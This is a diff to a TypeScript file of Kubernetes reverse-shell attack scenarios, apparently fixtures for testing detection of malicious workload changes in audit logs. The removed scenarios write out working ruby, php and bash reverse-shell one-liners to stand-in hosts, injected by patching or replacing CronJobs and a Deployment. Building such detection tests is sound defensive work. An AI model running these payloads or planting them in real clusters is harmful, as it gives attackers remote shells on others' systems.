@@ -1,7 +1,7 @@
 import type { Actor, Scenario } from '../types.js';
 import { compromisedDeveloper, serviceAccountToken } from './actors.js';
-import { appsWorkload, container, cronJob, replicationController, shell } from './manifests.js';
-import { applyClientSide, create, patch, update } from './steps.js';
+import { appsWorkload, container, replicationController, shell } from './manifests.js';
+import { applyClientSide, create } from './steps.js';
 
 /** The checkout API's token, used from its own pod after an RCE in the app. */
 const checkoutApiToken: Actor = serviceAccountToken({
@@ -13,60 +13,6 @@ const checkoutApiToken: Actor = serviceAccountToken({
   authorizationReason:
     'RBAC: allowed by RoleBinding "checkout-api-edit/checkout" of ClusterRole "edit" to ServiceAccount "checkout-api/checkout"',
 });
-
-const invoiceExport = cronJob(
-  {
-    name: 'invoice-export',
-    namespace: 'billing',
-    labels: { 'app.kubernetes.io/name': 'invoice-export', 'app.kubernetes.io/managed-by': 'Helm' },
-    annotations: {
-      'meta.helm.sh/release-name': 'billing',
-      'meta.helm.sh/release-namespace': 'billing',
-    },
-  },
-  '0 * * * *',
-  {
-    containers: [
-      container('invoice-export', 'registry.acme-corp.io/billing/exporter:3.2.1', {
-        command: ['/app/export', '--since=1h', '--format=csv'],
-      }),
-    ],
-    restartPolicy: 'OnFailure',
-    serviceAccountName: 'invoice-export',
-  },
-);
-
-const storefront = appsWorkload(
-  'Deployment',
-  {
-    name: 'storefront',
-    namespace: 'web',
-    labels: { app: 'storefront' },
-    annotations: { 'deployment.kubernetes.io/revision': '4' },
-  },
-  {
-    containers: [
-      container('storefront', 'registry.acme-corp.io/web/storefront:5.8.0', {
-        ports: [{ containerPort: 8080, name: 'http' }],
-        resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { memory: '512Mi' } },
-      }),
-    ],
-  },
-  { replicas: 3 },
-);
-
-const reportMailer = cronJob(
-  { name: 'report-mailer', namespace: 'reports', labels: { app: 'report-mailer' } },
-  '*/30 * * * *',
-  {
-    containers: [
-      container('report-mailer', 'python:3.12-slim', {
-        command: ['python', '/app/send_reports.py', '--queue', 'daily'],
-      }),
-    ],
-    restartPolicy: 'OnFailure',
-  },
-);
 
 const base = {
   technique: 'T1053.007',
@@ -253,113 +199,6 @@ export const REVERSE_SHELL_SCENARIOS: Scenario[] = [
           },
         ),
         { followUps: 1 },
-      ),
-    ],
-  },
-  {
-    ...base,
-    id: 'rev-shell-ruby-json-patch-cronjob',
-    title: 'JSON Patch turns an hourly export CronJob into a ruby reverse shell',
-    description:
-      'kubectl patch --type json replaces the image and command of a Helm-managed CronJob and tightens its schedule. The request body holds only the new values; the stored object shows the whole result.',
-    evasionClass: 'JSON Patch carrying only the new command (ruby TCPSocket)',
-    steps: [
-      patch(
-        compromisedDeveloper,
-        invoiceExport,
-        'json',
-        [
-          {
-            op: 'replace',
-            path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
-            value: 'ruby:3.3-alpine',
-          },
-          {
-            op: 'replace',
-            path: '/spec/jobTemplate/spec/template/spec/containers/0/command',
-            value: [
-              'ruby',
-              '-rsocket',
-              '-e',
-              'f=TCPSocket.open("203.0.113.47",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
-            ],
-          },
-          { op: 'replace', path: '/spec/schedule', value: '*/5 * * * *' },
-        ],
-        { followUps: 2 },
-      ),
-    ],
-  },
-  {
-    ...base,
-    technique: 'T1610',
-    id: 'rev-shell-php-merge-patch-deployment',
-    title: 'Merge patch swaps a Deployment container for a php reverse shell (Request level)',
-    description:
-      'kubectl patch --type merge replaces the whole container list of an existing Deployment. The audit policy logs apps at Request level, so there is no responseObject: only the patch shows what changed.',
-    evasionClass: 'merge patch, no stored object in the log (php fsockopen)',
-    steps: [
-      patch(
-        compromisedDeveloper,
-        storefront,
-        'merge',
-        {
-          spec: {
-            template: {
-              spec: {
-                containers: [
-                  {
-                    name: 'storefront',
-                    image: 'php:8.3-cli-alpine',
-                    command: [
-                      'php',
-                      '-r',
-                      '$sock=fsockopen("203.0.113.47",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
-                    ],
-                  },
-                ],
-              },
-            },
-          },
-        },
-        { level: 'Request', followUpLevel: 'Request', followUps: 1 },
-      ),
-    ],
-  },
-  {
-    ...base,
-    id: 'rev-shell-update-cronjob-replace',
-    title: 'kubectl replace rewrites a report CronJob into a reverse shell',
-    description:
-      'GET, edit, PUT: the update keeps the CronJob name, labels and schedule but swaps the image and command for a bash reverse shell.',
-    evasionClass: 'update of a trusted CronJob',
-    steps: [
-      update(
-        compromisedDeveloper,
-        reportMailer,
-        {
-          spec: {
-            ...(reportMailer.spec as object),
-            jobTemplate: {
-              spec: {
-                template: {
-                  spec: {
-                    containers: [
-                      container('report-mailer', 'ubuntu:22.04', {
-                        ...shell(
-                          'bash -c "bash -i >& /dev/tcp/198.51.100.10/443 0>&1"',
-                          '/bin/bash',
-                        ),
-                      }),
-                    ],
-                    restartPolicy: 'OnFailure',
-                  },
-                },
-              },
-            },
-          },
-        },
-        { followUps: 2 },
       ),
     ],
   },
